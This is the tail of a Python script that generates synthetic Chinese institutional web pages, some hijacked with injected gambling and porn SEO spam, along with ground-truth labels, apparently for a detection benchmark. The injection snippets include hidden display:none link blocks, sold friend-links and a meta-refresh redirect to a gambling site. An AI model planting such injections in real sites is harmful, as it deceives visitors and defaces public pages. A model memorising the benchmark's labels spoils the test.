    if form == "friend-links-sold":
        a = ["觅珑彩票网", "觅珑彩票app", "睿鹬真人"]
        real = ["中国政府网", "省人民政府", "市人民政府"]
        lk = ('<div class="flinks">友情链接：' + "".join(f'<a href="http://www.gov.cn/">{x}</a> ' for x in real[:1])
              + "".join(f'<a href="http://www.{x}.gov.cn/">{y}</a> ' for x, y in zip(("prov", "city"), real[1:]))
              + "".join(f'<a href="https://www.milong{i}.cc/">{y}</a> ' for i, y in enumerate(a)) + "</div>")
        return {"links": lk}, a, None, [form], None
    if form == "meta-refresh+spam-title":
        a = ["橡琨娱乐-橡琨娱乐手机版登录"]
        return {"head": '<meta http-equiv="refresh" content="3;url=https://www.xiangkun-yl.vip/">', "title": a[0]}, a, None, \
            ["meta-refresh", "spam-title"], None
    if form == "traditional-marquee-line":
        a = ["瑧嶽娛樂城：真人視訊、體育投注，線上存款秒到帳"]
        return {"nav_after": f'<marquee scrollamount="4" style="color:#c00">{a[0]}</marquee>'}, a, None, [form], None
    if form == "porn-title+porn-line-bottom":
        a = ["午夜樱桃成人频道", "午夜樱桃成人频道高清无码在线看"]
        return {"title": f"{a[0]}_{t}", "body_end": f"\n<p><a href=\"https://yt.yingtao-av.xyz/\">{a[1]}</a></p>"}, a, None, \
            ["porn-keyword-title", "porn-keyword-line-bottom"], None
    if form == "display-none-span-in-body":
        a = ["钛麟体育投注", "钛麟体育注册"]
        h = '<span style="display:none">' + "".join(f'<a href="https://tailin-{i}.bet/">{x}</a>' for i, x in enumerate(a)) + "</span>"
        return {"body_after1": h}, a, None, [form], None
    if form == "related-list-spam-item":
        a = ["煜鳌娱乐官网最新入口"]
        h = ('<div class="related"><h4>相关新闻</h4><ul>'
             f'<li><a href="/article.php?story={P["story"] - 3}">{P["prev_title"]}</a></li>'
             f'<li><a href="https://www.yuao-88.cc/">{a[0]}</a></li></ul></div>')
        return {"related": h}, a, None, [form], None
    raise ValueError(form)


# ----------------------------------------------------------------------------------------------
# page assembly
# ----------------------------------------------------------------------------------------------
def base_page(tpl, host, site_name, place, org, frame, source, author, path, extra=None, unit="县"):
    if tpl == "K3":
        author = None  # the 信息公开 template shows no author
    ctx = make_ctx(org, place, unit=unit)
    title, paras = fill(frame, ctx)
    P = dict(tpl=tpl, host=host, site_name=site_name, place=place, title=title, paras=paras,
             date=(ctx["y"], ctx["m"], ctx["d"]), source=source, author=author, source_shown=source,
             author_shown=author, hm=f"{R.randint(8, 18):02d}:{R.choice([0, 15, 30, 45, 5, 20]):02d}",
             hits=R.randint(40, 3800), slogan="", en="", prev="", prev_title="", addr="", icp="", gongan="", wzbs="",
             index="", cat="", publisher="", wenhao="", tel="", checker="", parent="", story=R.randint(200, 900))
    y, m, d = P["date"]
    P["url"] = f"http://{host}/{path.format(y=y, m=m, d=d, n=R.randint(10000, 99999))}"
    if extra:
        P.update(extra)
    return P


def render(P, S):
    fn, enc = TEMPLATES[P["tpl"]]
    return fn(P, S), enc


PAGES = []


def add(P, S, spam, marker, forms, origin, legit=False):
    page, enc = render(P, S)
    y, m, d = P["date"]
    row = dict(id=None, url=P["url"], title=P["title"], date=f"{y}-{m:02d}-{d:02d}", source=P["source"],
               author=P["author"], text="\n".join(P["paras"]), hijacked=bool(forms), injections=forms,
               spam_strings=spam, legit=legit, lang="zh", origin=origin, kind="synthetic", site=P["host"],
               capture="html", encoding=enc, template=P["tpl"])
    if marker:
        row["marker"] = marker
    PAGES.append((row, page, enc))


def maybe(p=0.75):
    return person() if R.random() < p else None


# ---- site A: K1 county portal --------------------------------------------------------------------
def site_a():
    host, name, place = "www.chengling.gov.cn", "澄岭县人民政府", "澄岭县"
    common = dict(slogan="澄岭县人民政府门户网站", icp="湘ICP备17004582号-1", gongan="湘公网安备 43112702000213号", wzbs="4311270012")
    S, spam, mk, forms = inj_site_a()
    frames = [GOV[0], LEGIT["police"], GOV[1], GOV[2], GOV[5]]
    srcs = ["澄岭县应急管理局", "澄岭县公安局", "澄岭县住房和城乡建设局", "澄岭县政务服务中心", "澄岭县发展和改革局"]
    hij = [0, 2, 4]
    for i, fr in enumerate(frames):
        P = base_page("K1", host, name, place, name, fr, srcs[i], maybe(), "zwdt/bmdt/{y}{m:02d}/t{y}{m:02d}{d:02d}_{n}.html",
                      common)
        legit = fr is LEGIT["police"]
        if i in hij:
            add(P, S, spam, mk, forms, "synthetic-generator-v45 template K1; site A; hijacked: the site's shared footer injection")
        else:
            add(P, {}, [], None, [], "synthetic-generator-v45 template K1; site A; clean page"
                + ("; legit: anti-gambling police case" if legit else ""), legit)


# ---- site B: K2 school (GBK) ---------------------------------------------------------------------
def site_b():
    host, name, place = "www.tjsdez.cn", "桐泾市第二中学", "桐泾市"
    common = dict(en="TONGJING NO.2 MIDDLE SCHOOL", addr="桐泾市文昌路188号", icp="浙ICP备12031466号")
    S, spam, mk, forms = inj_site_b()
    frames = [EDU[1], EDU[2], EDU[4], EDU[5], EDU[0]]
    hij = [1, 3]
    for i, fr in enumerate(frames):
        prev = R.choice(["我校举行新学期开学典礼", "我校开展学雷锋志愿服务活动", "我校召开家长委员会会议"])
        src = R.choice(["校办公室", "教务处", "政教处", "团委"])
        P = base_page("K2", host, name, place, name, fr, src, maybe(0.9), "news/xxyw/{y}{m:02d}{d:02d}{n}.html",
                      dict(common, prev=str(R.randint(300, 700)), prev_title=prev))
        if i in hij:
            add(P, S, spam, mk, forms, "synthetic-generator-v45 template K2; site B; hijacked: the site's shared header script")
        else:
            add(P, {}, [], None, [], "synthetic-generator-v45 template K2; site B; clean page")


# ---- site C: K3 信息公开 (GB18030) ----------------------------------------------------------------
def site_c():
    host, name, place = "mzj.weichuan.gov.cn", "苇川县民政局", "苇川县"
    common = dict(icp="赣ICP备15008127号-2", wzbs="3609240031", tel="0795-6213407", publisher="苇川县民政局", cat="民政")
    frames = [LEGIT["welfare"], GOV[4], MZ[0], GOV[6], MZ[1]]
    hij = [1, 3, 4]
    for i, fr in enumerate(frames):
        y = R.randint(2023, 2025)
        extra = dict(common, index=f"11360924MB1X{R.randint(10000, 99999)}/{y}-{R.randint(10, 99):05d}",
                     wenhao=R.choice(["无", f"苇民字〔{y}〕{R.randint(3, 40)}号"]))
        P = base_page("K3", host, name, place, name, fr, name, maybe(0.4), "xxgk/{y}{m:02d}/t{y}{m:02d}{d:02d}_{n}.html", extra)
        if i in hij:
            S, spam, mk, forms = inj_site_c(P["title"])
            add(P, S, spam, mk, forms, "synthetic-generator-v45 template K3; site C; hijacked: the site's shared keyword title")
        else:
            legit = fr is LEGIT["welfare"]
            add(P, {}, [], None, [], "synthetic-generator-v45 template K3; site C; clean page"
                + ("; legit: welfare-lottery fund disclosure" if legit else ""), legit)


# ---- site D: K4 college department -------------------------------------------------------------
def site_d():
    host, name, place = "xxgc.syzy.edu.cn", "信息工程系", "濉阳市"
    common = dict(parent="濉阳职业技术学院", icp="皖ICP备10207735号")
    S, spam, mk, forms = inj_site_d()
    frames = [EDU[3], EDU[6], EDU[0], EDU[4], EDU[1]]
    hij = [0, 3]
    for i, fr in enumerate(frames):
        P = base_page("K4", host, name, place, "濉阳职业技术学院信息工程系", fr, "信息工程系", maybe(0.85),
                      "news.php?readmore={n}", dict(common, checker=person()), unit="省")
        if i in hij:
            add(P, S, spam, mk, forms, "synthetic-generator-v45 template K4; site D; hijacked: the site's shared top line")
        else:
            add(P, {}, [], None, [], "synthetic-generator-v45 template K4; site D; clean page")


# ---- single pages -----------------------------------------------------------------------------
SINGLES = [
    # (template, kind, form)
    ("K5", "court", "keyword-stuffed-title"),
    ("K6", "gov", "brand-as-site-name"),
    ("K1", "gov", "brand-as-author"),
    ("K2", "edu", "brand-as-source"),
    ("K3", "gov", "spam-line-body-top"),
    ("K4", "edu", "spam-line-body-mid"),
    ("K5", "hosp", "footer-credit-brand"),
    ("K6", "gov", "hex-docwrite-iframe"),
    ("K1", "gov", "referrer-cloak-redirect"),
    ("K2", "edu", "text-indent-link-block"),
    ("K4", "edu", "outlet-mark-brand"),
    ("K5", "hosp", "image-credit-brand"),
    ("K6", "gov", "friend-links-sold"),
    ("K2", "edu", "meta-refresh+spam-title"),
    ("K3", "gov", "traditional-marquee-line"),
    ("K4", "edu", "porn-title+porn-line-bottom"),
    ("K6", "gov", "display-none-span-in-body"),
    ("K5", "court", "related-list-spam-item"),
    ("K5", "court", None),
    ("K6", "sports", None),
]

PLACES = [("潆川", "yingchuan", "县"), ("柘岗", "zhegang", "县"), ("渼陂", "meibei", "区"), ("泓岭", "hongling", "县"),
          ("岫源", "xiuyuan", "县"), ("涔阳", "cenyang", "市"), ("沣湄", "fengmei", "县"), ("筠溪", "junxi", "县"),
          ("杉埠", "shanbu", "县"), ("芗泽", "xiangze", "县"), ("湍河", "tuanhe", "区"), ("蓼川", "liaochuan", "县"),
          ("淇岚", "qilan", "县"), ("渠峪", "quyu", "县"), ("濛江", "mengjiang", "市"), ("汶屏", "wenping", "县"),
          ("峄南", "yinan-x", "县"), ("蔚川", "yuchuan", "县"), ("黔柏", "qianbai", "县"), ("洺川", "mingchuan", "县")]
PROV = [("湘", "43"), ("赣", "36"), ("黔", "52"), ("鲁", "37"), ("豫", "41"), ("桂", "45"), ("晋", "14")]
GOV_DEPTS = [("县人民政府", "www", "县人民政府办公室"), ("县农业农村局", "nyncj", "县农业农村局"),
             ("县住房和城乡建设局", "zjj", "县住房和城乡建设局"), ("县医疗保障局", "ybj", "县医疗保障局"),
             ("县退役军人事务局", "tyjrj", "县退役军人事务局"), ("县应急管理局", "yjj", "县应急管理局")]
GOV_FRAME_BY_DEPT = {"县人民政府": [GOV[5], GOV[9], GOV[1], GOV[0]], "县农业农村局": [GOV[3]], "县住房和城乡建设局": [GOV[9], GOV[1]],
                     "县医疗保障局": [GOV[8]], "县退役军人事务局": [GOV[7]], "县应急管理局": [GOV[6], GOV[0]]}


def singles():
    places = list(PLACES)
    R.shuffle(places)
    for k, (tpl, kind, form) in enumerate(SINGLES):
        pl, py, un = places[k]
        pv, code = R.choice(PROV)
        extra = dict(icp=f"{pv}ICP备{R.randint(10000000, 19999999)}号", wzbs=f"{code}{R.randint(10000000, 99999999)}",
                     gongan=f"{pv}公网安备 {code}{R.randint(1000000000, 9999999999)}号", addr=f"{pl}{un}{R.choice(['人民路', '建设路', '滨江路', '解放路'])}{R.randint(2, 300)}号",
                     tel=f"0{R.randint(700, 899)}-{R.randint(2000000, 8999999)}", checker=person(), story=R.randint(200, 900),
                     prev_title=R.choice(["召开年度工作总结会", "开展安全生产月活动", "举行新职工入职培训"]))
        au = maybe(0.7)
        if kind == "gov":
            dn0, sub, srcn = R.choice(GOV_DEPTS)
            dn = dn0.replace("县", un, 1)
            srcn = srcn.replace("县", un, 1)
            org = pl + dn
            host = f"{sub}.{py}.gov.cn"
            fr = R.choice(GOV_FRAME_BY_DEPT[dn0])
            name, src = org, pl + srcn
            extra.update(slogan=f"{org}门户网站", publisher=org, cat="工作动态",
                         index=f"{R.randint(10000000, 99999999)}X/{R.randint(2023, 2025)}-{R.randint(100, 999):05d}",
                         wenhao="无")
            path = "art/{y}/{m}/{d}/art_" + str(R.randint(1000, 9999)) + "_{n}.html"
        elif kind == "edu":
            sk, ab = R.choice([("职业技术学院", "zy"), ("第一中学", "yz"), ("实验中学", "sz"), ("师范学校", "sf")])
            if tpl == "K4":
                sk, ab = "职业技术学院", "zy"
            org = pl + sk
            host = f"www.{py.replace('-x', '')}{ab}.edu.cn"
            fr = R.choice(EDU)
            name, src = org, R.choice(["宣传部", "教务处", "学生处", "团委", "党政办公室"])
            extra.update(en=py.upper() + " SCHOOL", parent=org, prev=str(R.randint(300, 700)))
            if tpl == "K4":
                name = R.choice(["机电工程系", "经济管理系", "护理系"])
                extra.update(parent=org)
                src = name
            path = "info/{y}{m:02d}/{n}.htm"
        elif kind == "court":
            org = f"{pl}{un}人民法院"
            host = f"{py}fy.chinacourt.gov.cn"
            fr = LEGIT["court"] if form is None else R.choice(COURT)
            name, src = org, org
            extra.update(slogan="公正司法　司法为民")
            path = "article/detail/{y}/{m:02d}/id/{n}.shtml"
        elif kind == "hosp":
            org = f"{pl}{un}人民医院"
            host = f"www.{py.replace('-x', '')}rmyy.com"
            fr = R.choice(HOSP)
            name, src = org, R.choice(["医务科", "党委办公室", "宣传科"])
            extra.update(slogan="厚德　精医　仁爱　创新")
            path = "article.php?story={y}{m:02d}{d:02d}{n}"
        else:  # sports (legit)
            org = f"{pl}{un}文化旅游体育局"
            host = f"wlt.{py}.gov.cn"
            fr = LEGIT["sports"]
            name, src = org, org
            extra.update(slogan=f"{org}网站")
            path = "pages/posts/{n}.php"
        P = base_page(tpl, host, name, pl + un, org, fr, src, au, path, extra, unit=un)
        if form is None:
            add(P, {}, [], None, [], f"synthetic-generator-v45 template {tpl}; single page; clean; legit: "
                + ("court verdict in a gambling-den case" if kind == "court" else "sports-lottery responsible-sales campaign"),
                True)
            continue
        S, spam, mk, forms, drop = single_inj(form, P)
        if drop:
            fld, val = drop
            P[fld + "_shown"] = val
            P[fld] = None
        add(P, S, spam, mk, forms, f"synthetic-generator-v45 template {tpl}; single page; hijacked: {', '.join(forms)}")


# removed on 2026-12-07 when v44 became dev (ids keep their numbers; every page is still generated, so the others keep
# their bytes): sv45-028, whose injected code shares a run of 120+ characters with a page of dev/synthetic-v44
REMOVED = {"sv45-028"}


def main():
    site_a()
    site_b()
    site_c()
    site_d()
    singles()
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    rows = []
    for i, (row, page, enc) in enumerate(PAGES, 1):
        row["id"] = f"sv45-{i:03d}"
        if row["id"] in REMOVED:
            continue
        with open(os.path.join(OUT, "html", row["id"] + ".html"), "wb") as f:
            f.write(page.encode(enc))
        rows.append(row)
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    print(f"wrote {len(rows)} pages to {os.path.abspath(OUT)}")


if __name__ == "__main__":
    main()
